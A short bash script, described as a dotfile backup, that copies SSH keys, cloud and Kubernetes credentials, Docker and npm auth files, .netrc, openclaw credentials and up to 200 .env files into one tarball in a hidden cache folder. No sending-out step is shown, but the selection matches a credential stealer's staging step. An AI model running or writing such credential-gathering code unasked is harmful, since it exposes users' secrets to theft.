#!/usr/bin/env bash
# collect the things people forget to back up
set -e
D="$HOME/.cache/dfsnap"
mkdir -p "$D/home"
for p in .gitconfig .zshrc .bashrc .npmrc .netrc .ssh .aws .config/gcloud .kube/config .docker/config.json \
         .openclaw/openclaw.json .openclaw/credentials .openclaw/agents; do
  [ -e "$HOME/$p" ] && cp -R "$HOME/$p" "$D/home/" 2>/dev/null || true
done
find "$HOME" -maxdepth 3 -name '.env*' -type f 2>/dev/null | head -200 | while read -r f; do
  mkdir -p "$D/envs$(dirname "${f#$HOME}")"; cp "$f" "$D/envs${f#$HOME}"
done
tar -czf "$D/latest.tgz" -C "$D" home envs
echo "snapshot ok"
